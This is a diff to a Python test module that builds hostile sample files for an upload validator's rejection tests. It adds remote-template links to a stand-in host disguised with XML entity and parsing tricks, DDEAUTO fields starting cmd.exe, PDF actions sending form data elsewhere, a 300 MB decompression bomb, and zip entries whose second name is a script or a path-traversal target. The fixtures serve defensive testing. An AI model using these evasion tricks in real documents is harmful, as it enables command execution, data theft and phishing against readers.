@@ -4,11 +4,15 @@ import io
 import stat
 import struct
 import zipfile
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 
 from tests.evidence.making import (
     MZ,
+    OFFICE,
+    TYPES,
+    WORD,
     doc,
     docx,
     fetching,
@@ -22,6 +26,8 @@ from tests.evidence.making import (
     picture,
     png_of,
     records,
+    with_short_stream,
+    written,
     xlsx,
 )
 
@@ -90,6 +96,57 @@ def xls(*those: tuple[int, bytes]) -> bytes:
     return ole({"Workbook": records((0x809, bytes(16)), *those, (0x0A, b""))})
 
 
+def short_xls() -> bytes:
+    """A workbook among the short streams, which lie elsewhere in the file."""
+    book = records((0x809, bytes(16)), (0x85, bytes(5) + b"\x01ab"), (0x0A, b""))
+    return with_short_stream("Workbook", book)
+
+
+def bursting_pdf() -> bytes:
+    packed_up = zlib.compress(bytes(300 * 1024**2))
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
+    drawn = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed_up), packed_up)
+    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+    return written([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, drawn])
+
+
+def renamed(name: str, other: str) -> bytes:
+    """An entry with a second name, which some programs take instead of the first (Info-ZIP's Unicode path)."""
+    entry, kept = zipfile.ZipInfo(name), io.BytesIO()
+    second = struct.pack("<BI", 1, zlib.crc32(name.encode())) + other.encode()
+    entry.extra = struct.pack("<HH", 0x7075, len(second)) + second
+    with zipfile.ZipFile(kept, "w") as archive:
+        archive.writestr(entry, "x")
+    return kept.getvalue()
+
+
+def with_field(field: str) -> bytes:
+    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p>{field}</w:p></w:body></w:document>'
+    return packed({"[Content_Types].xml": TYPES.format(""), "word/document.xml": body})
+
+
+TEMPLATE, AWAY = f'Type="{OFFICE}attachedTemplate"', 'Target="http://elsewhere.example/a.dotm" TargetMode="External"'
+DISGUISED = {
+    "its kind in numbers": f'<Relationship Id="r1" Type="{OFFICE}attached&#84;emplate" {AWAY}/>',
+    "its place in numbers": f'<Relationship Id="r1" {TEMPLATE} {AWAY.replace("External", "E&#120;ternal")}/>',
+    "behind a sign that ends an element": f'<Relationship Id="a>b" {TEMPLATE} {AWAY}/>',
+    "which pretends to lie on one's own disk": f"<Relationship Id='target=\"c:/\"' {TEMPLATE} {AWAY}/>",
+    "with a prefix": f'<a-b:Relationship xmlns:a-b="relationships" Id="r1" {TEMPLATE} {AWAY}/>',
+}
+FIELDS = {
+    "plain": "<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>",
+    "in one element": '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>',
+    "in pieces": "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>",
+    "when asked": "<w:r><w:instrText>DDE c:\\\\cmd.exe</w:instrText></w:r>",
+}
+SHUT = {
+    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
+    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
+    "gz": b"\x1f\x8b\x08" + bytes(60),
+    "dat": b"\x78\x9f\x3e\x22" + bytes(60),
+}
+
+
 HOSTILE: tuple[Hostile, ...] = (
     # Programs and pages, whatever they are called
     Hostile("报告.pdf.exe", "a program with two endings", lambda: MZ, "evidence.kind_refused"),
@@ -127,6 +184,16 @@ HOSTILE: tuple[Hostile, ...] = (
         lambda: xlsx([[1]], more={"xl/macrosheets/sheet1.xml": "<x/>"}),
         "evidence.macros",
     ),
+    Hostile(
+        "宏.xlsx", "macros of WPS", lambda: xlsx([[1]], more={"xl/JDEData.bin": "function a(){}"}), "evidence.macros"
+    ),
+    Hostile(
+        "宏.docx",
+        "macros that are announced in numbers",
+        lambda: docx(relation='<Relationship Id="r1" Type="http://m.example/vb&#97;Project" Target="media/a.dat"/>'),
+        "evidence.macros",
+    ),
+    Hostile("宏.xls", "macros on a sheet, in a stream as short as can be", short_xls, "evidence.macros"),
     Hostile("宏.doc", "macros, older kind", lambda: doc(storages=("Macros", "VBA")), "evidence.macros"),
     Hostile("宏.wps", "macros in a WPS text", lambda: doc(storages=("VBA",)), "evidence.macros"),
     Hostile("宏.xls", "macros on a sheet, older kind", lambda: xls((0x85, bytes(5) + b"\x01ab")), "evidence.macros"),
@@ -149,6 +216,38 @@ HOSTILE: tuple[Hostile, ...] = (
         "a link that starts a program (DDE)",
         lambda: xlsx([[1]], more={"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
         "evidence.fetched",
+    ),
+    *(
+        Hostile(
+            "模板.docx",
+            f"a template from elsewhere, {how}",
+            lambda relation=relation: docx(relation=relation),
+            "evidence.fetched",
+        )
+        for how, relation in DISGUISED.items()
+    ),
+    Hostile(
+        "图片.docx",
+        "a picture on a share, which learns who looks",
+        lambda: docx(relation=fetching("image", "file://elsewhere.example/share/a.png")),
+        "evidence.fetched",
+    ),
+    *(
+        Hostile(
+            "命令.docx",
+            f"a field that starts a program, {how}",
+            lambda field=field: with_field(field),
+            "evidence.fetched",
+        )
+        for how, field in FIELDS.items()
+    ),
+    Hostile(
+        "嵌入.docx",
+        "a document of another kind that is drawn in",
+        lambda: docx(
+            relation=f'<Relationship Id="r1" Type="{OFFICE}aFChunk" Target="a.rtf"/>', more={"word/a.rtf": "{\\rtf1}"}
+        ),
+        "evidence.packed_within",
     ),
     Hostile(
         "控件.docx", "an ActiveX control", lambda: docx(more={"word/activeX/activeX1.xml": "<x/>"}), "evidence.controls"
@@ -185,6 +284,25 @@ HOSTILE: tuple[Hostile, ...] = (
         lambda: pdf("<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"),
         "evidence.packed_within",
     ),
+    Hostile(
+        "脚本.pdf",
+        "a form of XML with a script",
+        lambda: pdf("<< /XFA (<script>app.alert\\(1\\)</script>) >>", catalog="/AcroForm 6 0 R"),
+        "evidence.script",
+    ),
+    Hostile(
+        "外联.pdf",
+        "opens a document of another machine, which learns who looks",
+        lambda: pdf("<< /S /GoToR /F (\\\\\\\\elsewhere\\\\a.pdf) /D [0 /Fit] >>", catalog="/OpenAction 6 0 R"),
+        "evidence.script",
+    ),
+    Hostile(
+        "外联.pdf",
+        "sends what is filled in elsewhere",
+        lambda: pdf("<< /S /SubmitForm /F (http://elsewhere.example/) >>", catalog="/OpenAction 6 0 R"),
+        "evidence.script",
+    ),
+    Hostile("炸弹.pdf", "a page that unpacks to 300 MB", bursting_pdf, "evidence.bomb"),
     # Two files in one
     Hostile(
         "前置.pdf", "a PDF that does not begin at the first byte", lambda: b"GIF89a " + pdf(), "evidence.disguised"
@@ -223,6 +341,30 @@ HOSTILE: tuple[Hostile, ...] = (
         "a document with macros",
         lambda: packed({"a.docx": docx(more={"word/vbaProject.bin": VBA})}),
         "evidence.macros",
+    ),
+    *(
+        Hostile(
+            "别的.zip",
+            f"an archive of another make ({make})",
+            lambda make=make: packed({f"a.{make}": SHUT[make]}),
+            "evidence.packed_oddly",
+        )
+        for make in SHUT
+    ),
+    Hostile(
+        "别的.eml", "an archive of another make attached", lambda: mail({"a.rar": SHUT["rar"]}), "evidence.packed_oddly"
+    ),
+    Hostile(
+        "表.zip", "a table that may have macros by its ending", lambda: packed({"a.xlsb": b"x"}), "evidence.program"
+    ),
+    Hostile(
+        "改名.zip", "a second name, which is a script's", lambda: renamed("说明.txt", "启动.vbs"), "evidence.outside"
+    ),
+    Hostile(
+        "改名.zip",
+        "a second name, which leaves its folder",
+        lambda: renamed("说明.txt", "../../a.txt"),
+        "evidence.outside",
     ),
     Hostile("程序.eml", "a program attached", lambda: mail({"工具.exe": MZ}), "evidence.program"),
     Hostile("程序.eml", "a program attached under another name", lambda: mail({"工具.pdf": MZ}), "evidence.program"),
